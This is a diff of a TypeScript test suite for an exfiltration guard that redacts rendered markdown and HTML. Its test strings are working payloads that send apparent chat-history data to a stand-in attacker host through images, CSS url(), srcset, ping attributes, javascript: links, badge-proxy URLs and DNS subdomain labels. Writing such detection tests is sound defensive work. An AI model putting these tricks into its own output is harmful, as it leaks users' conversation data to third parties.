@@ -52,55 +52,99 @@ async function guarded(text: string, size: number, g: Guard = guard()): Promise<
 
 const SIZES = [0, 1, 7, 16];
 
-async function assertCaught(name: string, text: string) {
+async function assertCaught(name: string, text: string, options: Record<string, unknown> = {}) {
   assert.ok(text.includes(EVIL), name);
   for (const size of SIZES) {
-    const out = await guarded(text, size);
+    const out = await guarded(text, size, guard(options));
     assert.ok(!out.includes(EVIL), `${name}: the attacker's host survives at chunk size ${size}: ${out}`);
     assert.match(out, /\[REDACTED:[a-z-]+\]/, `${name} (size ${size})`);
   }
 }
 
+const DATA = 'd=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5';
 const PNG = `https://${EVIL}/p.png`;
 const COLLECT = `https://${EVIL}/collect`;
-const DATA = 'd=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5';
+
+/** The tricks, each URL ending in `q`: data in the query (`?d=...`), or nothing for the off-list policy. */
+function tricks(q: string): [string, string][] {
+  return [
+    ['entity-encoded colon in a markdown image', `![a](https&#58;//${EVIL}/p.png${q})`],
+    ['entity-encoded colon in an img tag', `<img src="https&#58;//${EVIL}/q.png${q}">`],
+    ['escaped backtick before an image', `Note: \\\`![a](${PNG}${q})\``],
+    ['code span opened on the line before', `a \` b\nc \` ![a](${PNG}${q}) \` end`],
+    ['reference definition in a blockquote', `![a][x]\n\n> [x]: ${COLLECT}${q}\n`],
+    ['reference definition in a list item', `![a][x]\n\n- [x]: ${COLLECT}${q}\n`],
+    ['case- and space-folded label', `![a][My   Ref]\n\n[my ref]: ${COLLECT}${q}\n`],
+    ['alt text with a newline', `![a\nb](${COLLECT}${q})`],
+    ['alt text with nested brackets', `![a [b] c](${COLLECT}${q})`],
+    ['CSS url() in a style attribute', `<div style="background:url(//${EVIL}/bg${q})">hi</div>`],
+    ['CSS url() with an escaped function name', `<p style="background: \\75 rl(//${EVIL}/bg${q})">x</p>`],
+    ['table background', `<table background="//${EVIL}/t${q}"><tr><td>x</td></tr></table>`],
+    ['a ping', `<a href="/docs" ping="https://${EVIL}/ping${q}">docs</a>`],
+    ['short hex path segments', `[docs](https://${EVIL}/73/65/63/72/65/74/2d/6b/65/79)`],
+    ['hex subdomain labels', `![a](https://73656372.6574206b.6579.${EVIL}/p.png)`],
+    // Host names are case-folded, so DNS exfiltration spells data in base32 or hex.
+    ['base32 subdomain label', `![a](https://onswg4tfoqqgwzlzebuxgidtgqza.${EVIL}/p.png)`],
+    ['entity-encoded javascript: link', `<a href="javascript&colon;fetch('//${EVIL}')">x</a>`],
+    ['backslash host in an img tag', `<img src="/\\${EVIL}/p${q}">`],
+    ['srcset candidate', `<img src="/ok.png" srcset="/ok2.png 2x, //${EVIL}/s.png${q} 3x">`],
+    ['style sheet with image-set', `<style>p{background:image-set("//${EVIL}/i${q}" 1x)}</style>`],
+  ];
+}
 
 describe('exfiltration guard: tricks a renderer turns into a request', () => {
-  const tricks: [string, string][] = [
-    ['entity-encoded colon in a markdown image', `![a](https&#58;//${EVIL}/p.png?${DATA})`],
-    ['entity-encoded colon in an img tag', `<img src="https&#58;//${EVIL}/q.png">`],
-    ['escaped backtick before an image', `Note: \\\`![a](${PNG})\``],
-    ['code span opened on the line before', `a \` b\nc \` ![a](${PNG}) \` end`],
-    ['reference definition in a blockquote', `![a][x]\n\n> [x]: ${COLLECT}\n`],
-    ['reference definition in a list item', `![a][x]\n\n- [x]: ${COLLECT}\n`],
-    ['case- and space-folded label', `![a][My   Ref]\n\n[my ref]: ${COLLECT}\n`],
-    ['alt text with a newline', `![a\nb](${COLLECT})`],
-    ['alt text with nested brackets', `![a [b] c](${COLLECT})`],
-    ['CSS url() in a style attribute', `<div style="background:url(//${EVIL}/bg)">hi</div>`],
-    ['CSS url() with an escaped function name', `<p style="background: \\75 rl(//${EVIL}/bg)">x</p>`],
-    ['table background', `<table background="//${EVIL}/t"><tr><td>x</td></tr></table>`],
-    ['a ping', `<a href="/docs" ping="https://${EVIL}/ping">docs</a>`],
-    ['short hex path segments', `[docs](https://${EVIL}/73/65/63/72/65/74/2d/6b/65/79)`],
-    ['entity-encoded javascript: link', `<a href="javascript&colon;fetch('//${EVIL}')">x</a>`],
-    ['backslash host in an img tag', `<img src="/\\${EVIL}/p">`],
-    ['srcset candidate', `<img src="/ok.png" srcset="/ok2.png 2x, //${EVIL}/s.png 3x">`],
-    ['style sheet with image-set', `<style>p{background:image-set("//${EVIL}/i" 1x)}</style>`],
-  ];
-  for (const [name, text] of tricks) {
-    it(`catches ${name}, whole and streamed`, () => assertCaught(name, text));
+  for (const [name, text] of tricks(`?${DATA}`)) {
+    it(`catches ${name} carrying data, whole and streamed`, () => assertCaught(name, text));
   }
+  // images: 'off-list' flags every off-list load, so the same tricks are caught with no data in the URL.
+  for (const [name, text] of tricks('')) {
+    it(`catches ${name} without data under images: off-list`, () =>
+      assertCaught(name, text, { images: 'off-list' }));
+  }
+});
+
+describe('exfiltration guard: a service that fetches a URL it is given', () => {
+  it('catches a badge proxy asked to fetch a data-carrying URL', () =>
+    assertCaught('proxy fetch', `![b](https://img.shields.io/endpoint?url=https://${EVIL}/x?${DATA})`));
+  it('catches it nested twice, URL-encoded', () =>
+    assertCaught(
+      'nested proxy fetch',
+      `![b](https://img.shields.io/endpoint?url=${encodeURIComponent(`https://r.example/go?to=https://${EVIL}/x?${DATA}`)})`,
+    ));
+});
+
+describe('exfiltration guard: images without data', () => {
+  it('lets an off-list image that carries no data through by default, whole and streamed', async () => {
+    const texts = [
+      `![build](https://img.shields.io/badge/build-passing-green.svg) and ![logo](${PNG})`,
+      `<img src="https://opencollective.com/express/sponsor/0/avatar.svg"> ${FILLER}`,
+      '[![npm](https://versionbadg.es/ljharb/qs.svg)](https://npmjs.org/package/qs)',
+    ];
+    for (const text of texts) {
+      for (const size of SIZES) assert.equal(await guarded(text, size), text, `size ${size}: ${text}`);
+    }
+  });
 });
 
 describe('exfiltration guard: reference definitions across a stream', () => {
   it('redacts a definition that arrives long after the image that uses it', async () => {
-    const text = `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}\n`;
-    await assertCaught('late definition', text);
+    await assertCaught(
+      'late definition',
+      `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}?${DATA}\n`,
+    );
+    await assertCaught(
+      'late definition',
+      `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}\n`,
+      {
+        images: 'off-list',
+      },
+    );
   });
 
   it('redacts an image whose definition scrolled out of the window long before', async () => {
     const text = `[stats]: ${COLLECT}\n\n${FILLER}${FILLER}Here: ![chart][stats]\n`;
     for (const size of SIZES) {
-      const out = await guarded(text, size);
+      const out = await guarded(text, size, guard({ images: 'off-list' }));
       // The definition was released (a link without data is allowed); the image that loads it is not.
       assert.ok(!out.includes('![chart][stats]'), `size ${size}`);
       assert.match(out, /Here: \[REDACTED:off-list-image\]/, `size ${size}`);
